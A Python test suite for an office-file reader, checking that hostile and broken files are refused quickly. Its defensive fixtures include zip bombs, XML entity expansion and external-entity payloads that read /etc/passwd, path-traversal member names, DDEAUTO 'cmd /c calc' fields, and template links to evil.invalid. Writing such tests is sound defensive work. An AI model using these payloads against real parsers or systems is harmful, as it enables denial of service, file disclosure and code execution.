"""Hostile and broken files: each is refused in one sentence and in under a second, and by the guard, as its twin proves."""

import io
import random
import signal
import struct
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable, Mapping

import olefile
import pytest

from jixiao.kernel.refusal import Refused
from jixiao.office import limits
from jixiao.office.book import read
from jixiao.office.readers.parts.ole import packed

from .builders import W, cell, docx, docx_with, label, number, ole, p, record, tbl, tc, told, xls, xlsx, zipped

HUGE = 10**12


def refused(data: bytes, name: str = "表.docx") -> str:
    """Return the sentence a file is refused with; it must be one sentence and cost less than a second."""
    started = time.process_time()
    with pytest.raises(Refused) as caught:
        read(data, name)
    assert time.process_time() - started < 1
    sentence = caught.value.sentence
    assert "\n" not in sentence
    assert "。" not in sentence.rstrip("。")
    return sentence


def noise(count: int) -> bytes:
    return random.Random(1).randbytes(count)  # noqa: S311 - the same bytes every time


def nested(depth: int) -> str:
    body = p("底")
    for _ in range(depth):
        body = tbl(f"<w:tc>{body}<w:p/></w:tc>")
    return body


def bomb() -> bytes:
    return docx_with(p("x"), {"word/media/big.bin": b"\0" * (130 * 2**20)})


def lying_bomb() -> bytes:
    """Return a zip whose directory says a member is small while it unpacks to a lot."""
    data = bytearray(
        docx_with("", {"word/document.xml": f"<w:document xmlns:w='{W}'><w:body>" + " " * (60 * 2**20) + "</w:body></w:document>"})
    )
    archive = zipfile.ZipFile(io.BytesIO(bytes(data)))
    info = archive.getinfo("word/document.xml")
    said = struct.pack("<I", info.file_size)
    at = data.find(said)
    while at >= 0:
        data[at : at + 4] = struct.pack("<I", 1000)
        at = data.find(said, at + 4)
    return bytes(data)


def overlapping() -> bytes:
    """Return a zip whose members share the same bytes."""
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", noise(50_000))
        info = archive.infolist()[0]
        for number_ in range(30):
            twin = zipfile.ZipInfo(f"word/{number_}.xml")
            twin.header_offset, twin.CRC, twin.compress_size, twin.file_size = (
                info.header_offset,
                info.CRC,
                info.compress_size,
                info.file_size,
            )
            twin.compress_type = info.compress_type
            archive.filelist.append(twin)
            archive.NameToInfo[twin.filename] = twin
    return stream.getvalue()


LIMITS: list[tuple[str, Callable[[], bytes], Mapping[str, int], str]] = [
    ("a bomb of unpacked bytes", bomb, {"MAX_UNPACKED": HUGE, "MAX_RATIO": HUGE}, "压缩炸弹"),
    ("too many members", lambda: docx_with(p("x"), {f"x/{at}": "" for at in range(2_001)}), {"MAX_MEMBERS": HUGE}, "过多或重名"),
    ("a long member name", lambda: docx_with(p("x"), {"x" * 600: ""}), {"MAX_NAME": HUGE}, "越界的路径"),
    ("a giant span", lambda: docx(tbl(tc("x", '<w:gridSpan w:val="10000000"/>'))), {"MAX_GRID": HUGE}, "63 列"),
    ("a span past any number", lambda: docx(tbl(tc("x", f'<w:gridSpan w:val="{"9" * 5000}"/>'))), {"MAX_GRID": HUGE}, "63 列"),
    ("a row beginning far out", lambda: docx("<w:tbl><w:tr><w:trPr><w:gridBefore w:val='2000000000'/></w:trPr>" + tc("x") + "</w:tr></w:tbl>"), {"MAX_GRID": HUGE}, "63 列"),
    ("tables in tables", lambda: docx(nested(9)), {"MAX_NESTING": HUGE}, "套表格"),
    ("a giant merged range", lambda: xlsx(f'<sheetData>{cell("A1", "x")}</sheetData><mergeCells><mergeCell ref="A1:XFD1000"/></mergeCells>'), {"MAX_MERGE_AREA": HUGE}, "合并了 16,384,000 个"),
    ("a far cell", lambda: xlsx(f"<sheetData>{cell('XFD1048576', 'x')}</sheetData>"), {"MAX_SHEET_ROWS": HUGE, "MAX_SHEET_COLUMNS": HUGE}, "第 1,048,576 行第 16,384 列"),
    ("an old far cell", lambda: xls(label(900, 255, "x"), number(0, 600, 1)), {"MAX_SHEET_COLUMNS": HUGE}, "离表格太远"),
    ("an old plain of blanks", lambda: xls(record(0x205, struct.pack("<HHHBB", 20_000, 90, 0, 1, 0)), label(0, 0, "x")), {"MAX_SHEET_SEEN": HUGE}, "第 20,001 行第 91 列"),
    ("an old giant merged range", lambda: xls(label(0, 0, "x"), after=record(0xE5, struct.pack("<5H", 1, 0, 65_535, 0, 255))), {"MAX_MERGE_AREA": HUGE}, "合并了 16,777,216 个"),
    ("a text of too many lines", lambda: "段落\n".encode() * 100_001, {"MAX_LINES": HUGE}, "100,002 行"),
    ("a big file", lambda: docx_with(p("x"), {"x": noise(20 * 2**20)}), {"MAX_FILE": HUGE}, "超过 20 MB"),
]  # fmt: skip


@pytest.mark.slow
@pytest.mark.parametrize(("make", "off", "sentence"), [case[1:] for case in LIMITS], ids=[case[0] for case in LIMITS])
def test_a_file_past_a_limit_is_refused_and_only_the_limit_refuses_it(
    make: Callable[[], bytes], off: Mapping[str, int], sentence: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    data = make()
    assert sentence in refused(data)

    for name, value in off.items():
        monkeypatch.setattr(limits, name, value)
    assert read(data).blocks


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("MAX_WORD_CELLS", docx(tbl(tc("a") + tc("b"), tc("c") + tc("d")))),
        ("MAX_WORD_CELLS", b"<table><tr><td>a</td><td>b</td></tr></table>"),
        ("MAX_WORD_CELLS", b"a\tb\tc\nd\te\tf\n"),
        ("MAX_SHEET_CELLS", xlsx(f"<sheetData>{cell('A1', 'x')}{cell('B1', 'y')}</sheetData>")),
        ("MAX_SHEET_CELLS", xls(label(0, 0, "x"), label(0, 1, "y"))),
        ("MAX_SHEET_SEEN", xlsx(f"<sheetData>{cell('A1', 'x')}{cell('B1', 'y')}</sheetData>")),
        ("MAX_STRINGS", xlsx("<sheetData><c r='A1' t='s'><v>0</v></c></sheetData>", strings=["a", "b"])),
    ],
)
def test_too_many_cells_are_refused_by_the_limit_alone(name: str, data: bytes, monkeypatch: pytest.MonkeyPatch) -> None:
    assert read(data).tables

    monkeypatch.setattr(limits, name, 1)
    assert "超过 1 格" in refused(data)


def test_a_member_bigger_than_its_header_says_is_not_unpacked(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_RATIO", HUGE)

    assert "损坏" in refused(lying_bomb())


def test_one_big_member_is_refused_by_the_limit_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    data = docx(p("正文" * 100))
    assert told(read(data))

    monkeypatch.setattr(limits, "MAX_PART", 100)
    assert "过大" in refused(data)


def test_members_that_overlap_are_refused() -> None:
    assert "重叠" in refused(overlapping())


def test_xml_nested_deeper_than_any_document_is_refused_by_the_limit_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    data = docx("<w:customXml>" * 400 + p("底") + "</w:customXml>" * 400)
    assert "嵌套过深" in refused(data)

    monkeypatch.setattr(limits, "DEEP_XML", True)
    assert told(read(data)) == ["底"]


BILLION = "<!DOCTYPE x [<!ENTITY a 'aaaaaaaaaa'><!ENTITY b '&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;'>]>"
OUTSIDE = "<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]>"
TEXT = f"<w:document xmlns:w='{W}'><w:body><w:p><w:r><w:t>x&a;</w:t></w:r></w:p></w:body></w:document>"


@pytest.mark.parametrize("code", ["utf-8", "utf-16-le", "utf-16-be", "utf-16"])
@pytest.mark.parametrize("dtd", [BILLION, OUTSIDE, "<!DOCTYPE x SYSTEM 'http://example.invalid/x.dtd'>"])
def test_a_document_type_is_refused_in_any_member_and_encoding(dtd: str, code: str) -> None:
    xml = (f"<?xml version='1.0' encoding='{code[:6]}'?>" + dtd + TEXT.replace("&a;", "")).encode(code)

    assert "DTD" in refused(docx_with("", {"word/document.xml": xml}))
    assert "DTD" in refused(docx_with(p("x"), {"word/styles.xml": xml}))
    assert "DTD" in refused(xlsx("", members={"xl/worksheets/sheet1.xml": xml}))
    assert "DTD" in refused(xlsx("<sheetData/>", members={"xl/sharedStrings.xml": xml}))


def test_the_parser_itself_follows_no_entity_when_the_first_look_is_off(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "DTD", (b"\0never",))
    xml = OUTSIDE + TEXT

    with pytest.raises(Refused):
        read(docx_with("", {"word/document.xml": xml}))


@pytest.mark.parametrize("name", ["../../etc/passwd", "/etc/passwd", "C:\\x", "word\\..\\..\\x", "word/\x01"])
def test_a_member_that_would_climb_out_is_refused(name: str) -> None:
    assert "越界的路径" in refused(docx_with(p("x"), {name: "x"}))


MACRO_TYPES = "<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/></Types>"
LINK = "<Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'><Relationship Id='1' TargetMode='External' Type='{}' Target='{}'/></Relationships>"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKED = ole({"\x01Ole10Native": b"MZ" * 3000})


@pytest.mark.parametrize(
    ("members", "sentence"),
    [
        ({"word/vbaProject.bin": "x"}, "宏"),
        ({"[Content_Types].xml": MACRO_TYPES}, "宏"),
        ({"xl/macrosheets/sheet1.xml": "x"}, "宏"),
        ({"word/activeX/activeX1.xml": "x"}, "ActiveX"),
        ({"word/embeddings/oleObject1.bin": PACKED}, "嵌有别的文件或程序"),
        ({"word/embeddings/a.exe": "x"}, "嵌有别的文件或程序"),
        ({"word/media/image1.png": b"MZ\x90\0"}, "嵌有别的文件或程序"),
        ({"word/_rels/settings.xml.rels": LINK.format(f"{OFFICE}/attachedTemplate", "https://evil.invalid/t.dotm")}, "外部的模板"),
        ({"word/_rels/settings.xml.rels": LINK.format(f"{OFFICE}/attachedTemplate", "\\\\server\\t.dotm")}, "外部的模板"),
        ({"word/_rels/settings.xml.rels": LINK.format(f"{OFFICE}/attachedTemplate", "file://server/t.dotm")}, "外部的模板"),
        ({"word/_rels/document.xml.rels": LINK.format(f"{OFFICE}/oleObject", "http://evil.invalid/x")}, "外部的模板"),
        ({"xl/externalLinks/externalLink1.xml": "<externalLink><ddeLink ddeService='cmd'/></externalLink>"}, "DDE"),
    ],
)
def test_what_could_run_or_fetch_is_refused(members: dict[str, str | bytes], sentence: str) -> None:
    assert sentence in refused(docx_with(p("x"), members))
    assert sentence in refused(xlsx(f"<sheetData>{cell('A1', 'x')}</sheetData>", members=members))


@pytest.mark.parametrize(
    "members",
    [
        {"word/embeddings/oleObject1.bin": ole({"Equation Native": b"x"})},
        {"word/embeddings/Microsoft_Excel_Sheet.xlsx": "x"},
        {"word/_rels/settings.xml.rels": LINK.format(f"{OFFICE}/attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm")},
        {"word/_rels/document.xml.rels": LINK.format(f"{OFFICE}/hyperlink", "http://example.invalid/")},
    ],
)
def test_what_honest_files_hold_is_not_refused(members: dict[str, str | bytes]) -> None:
    assert told(read(docx_with(p("x"), members))) == ["x"]


@pytest.mark.parametrize(
    "field",
    [
        '<w:p><w:fldSimple w:instr=" DDEAUTO cmd /c calc"/></w:p>',
        "<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\x</w:instrText></w:r></w:p>",
    ],
)
def test_a_field_that_starts_a_program_is_refused(field: str) -> None:
    assert "DDE" in refused(docx(field))


@pytest.mark.parametrize(
    ("data", "sentence"),
    [
        (b"", "空的（0 字节）"),
        (b"MZ\x90\0", "程序（exe）"),
        (b"\x7fELF", "程序"),
        (b"\xff\xd8\xff\xe0", "图片（JPG）"),
        (b"\x89PNG\r\n", "图片（PNG）"),
        (b"RIFF....WEBP", "图片或音视频"),
        (b"\0\0\0\x18ftypmp42", "图片或音视频"),
        (b"Rar!\x1a", "压缩包（RAR）"),
        (zipped({"a.txt": "x"}), "压缩包（ZIP）"),
        (zipped({"OFD.xml": "x"}), "版式文件（OFD）"),
        (zipped({"ppt/presentation.xml": "x"}), "演示文稿"),
        (zipped({"content.xml": "x"}), "OpenDocument"),
        (zipped({"xl/workbook.bin": "x"}), "xlsb"),
        (zipped({"[Content_Types].xml": "x"}), "缺少正文"),
        (b"<?xml version='1.0'?><data/>", "XML 数据"),
        (b"MIME-Version: 1.0\nContent-Type: multipart/related;\n", "单个文件网页"),
        (ole({"PowerPoint Document": b"x"}), "演示文稿"),
        (ole({"Contents": b"x"}), "旧格式"),
        (ole({"EncryptedPackage": b"x", "EncryptionInfo": b"x"}), "设有密码"),
        (ole({"WordDocument": b"\xec\xa5\xc1\0" + b"\0" * 6 + b"\0\x01"}), "设有密码"),
        (ole({"WordDocument": b"\xec\xa5" + b"\0" * 20, "Macros": b"x"}), "宏"),
        (ole({"WordDocument": b"\xec\xa5" + b"\0" * 20, "\x01Ole10Native": b"x"}), "嵌有别的文件"),
        (ole({"Workbook": b"", "_VBA_PROJECT_CUR": b"x"}), "宏"),
        (xls(globals_=record(0x2F, b"\0" * 6)), "设有密码"),
        (xls(globals_=record(0x85, b"\0\0\0\0\0\x01\x01\0x")), "宏"),
        (xls(record(0x200, struct.pack("<IIHHH", 0, 0xFFFFFFFE, 0, 0xFFFF, 0)), label(0, 0, "x")), "声明的大小"),
        (xls(record(0x200, struct.pack("<IIHHH", 9, 3, 0, 1, 0)), label(0, 0, "x")), "声明的大小"),
        (xls(record(0x200, struct.pack("<5H", 0, 3, 300, 1, 0)), label(0, 0, "x")), "声明的大小"),
        (ole({"WordDocument": b"x"})[:600], "不完整或已损坏"),
        (docx(p("x"))[:300], "不完整或已损坏"),
        (docx(p("x"))[:-40], "不完整或已损坏"),
        (docx("<w:p>"), "损坏"),
        (docx_with("", {"word/document.xml": f"<w:document xmlns:w='{W}'/>"}), "缺少正文"),
        (xlsx("<sheetData><c r='?'/></sheetData>"), "看不懂的单元格地址"),
        (xlsx("<sheetData>"), "损坏"),
        (xlsx("", members={"xl/_rels/workbook.xml.rels": "<x/>"}).replace(b"worksheets/sheet1.xml", b"worksheets/sheetX.xml"), ""),
        (b"{\\rtf1{\\field{\\*\\fldinst DDEAUTO cmd}}}", "启动其他程序"),
    ],
)  # fmt: skip
def test_what_is_no_office_file_is_named_and_what_is_broken_said(data: bytes, sentence: str) -> None:
    if not sentence:
        assert read(data).blocks == ()
        return
    assert sentence in refused(data)


@pytest.mark.parametrize("name", ["Workbook", "WordDocument"])
def test_a_stream_longer_than_its_file_is_not_read(name: str) -> None:
    data = bytearray(ole({name: b"\x09\x08" + b"x" * 100}))
    size = data.find(name.encode("utf-16-le")) + 120
    struct.pack_into("<I", data, size, 0x7FFFFFFF)
    struct.pack_into("<I", data, len(data) - 512, 0)

    assert "损坏" in refused(bytes(data))


LIBRARY_ALONE = (
    "import io, resource, sys, python_calamine; resource.setrlimit(resource.RLIMIT_AS, (400 << 20, 400 << 20)); "
    "python_calamine.CalamineWorkbook.from_filelike(io.BytesIO(sys.stdin.buffer.read()))"
)


@pytest.mark.slow
def test_a_circle_of_sectors_in_an_old_file_is_not_followed() -> None:
    """The library alone follows the circle until memory ends; we give it a container packed anew."""
    data = bytearray(xls(label(0, 0, "x"), number(0, 1, 2)))
    directory, table = 8, len(data) - 512
    struct.pack_into("<I", data, table + 4 * directory, directory)

    alone = subprocess.run([sys.executable, "-c", LIBRARY_ALONE], input=bytes(data), capture_output=True, check=False)
    assert alone.returncode == -signal.SIGABRT
    assert [cell_.text for cell_ in read(bytes(data)).tables[0].cells] == ["x", "2"]


@pytest.mark.parametrize("size", [0, 5_000, 7_200_000])
def test_a_stream_packed_anew_is_the_same_stream(size: int) -> None:
    stream = noise(size)

    with olefile.OleFileIO(io.BytesIO(packed("Workbook", stream))) as container:
        assert container.openstream("Workbook").read()[:size] == stream


def test_a_locked_zip_is_refused() -> None:
    data = bytearray(docx(p("x")))
    for mark, at in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        place = data.find(mark)
        while place >= 0:
            data[place + at] |= 1
            place = data.find(mark, place + 4)

    assert "设有密码" in refused(bytes(data))


def test_the_name_does_not_decide() -> None:
    assert read(b"<html><body><p>x</p></body></html>", "a.doc").kind == "html"
    assert read(docx(p("x")), "a.doc").kind == "docx"
    assert read(xlsx("<sheetData/>"), "a.docx").kind == "xlsx"
    assert read("文本".encode(), "a.docx").kind == "txt"


@pytest.mark.slow
def test_a_long_table_is_read_quickly() -> None:
    data = docx(tbl(*["".join(tc(f"{row}-{column}") for column in range(8)) for row in range(4_000)]))

    started = time.process_time()
    assert read(data).tables[0].height == 4_000
    assert time.process_time() - started < 3


@pytest.mark.slow
@pytest.mark.parametrize("seed", range(6))
def test_a_file_damaged_anywhere_is_read_or_refused_and_nothing_else(seed: int) -> None:
    """Fuzz: bytes turned, cut and doubled; whatever happens is blocks or a refusal."""
    chance = random.Random(seed)  # noqa: S311 - the same files every time
    originals = [
        docx(tbl(tc("a") + tc("b"))),
        xlsx(f"<sheetData>{cell('A1', 'x')}</sheetData>"),
        xls(label(0, 0, "x"), number(0, 1, 2, 1)),
        b"<table><tr><td>x",
    ]
    for original in originals:
        for _ in range(25):
            data = bytearray(original)
            for _ in range(chance.randint(1, 8)):
                data[chance.randrange(len(data))] = chance.randrange(256)
            cut = bytes(data[: chance.randint(1, len(data))]) if chance.random() < 0.3 else bytes(data)
            try:
                read(cut)
            except Refused:
                continue
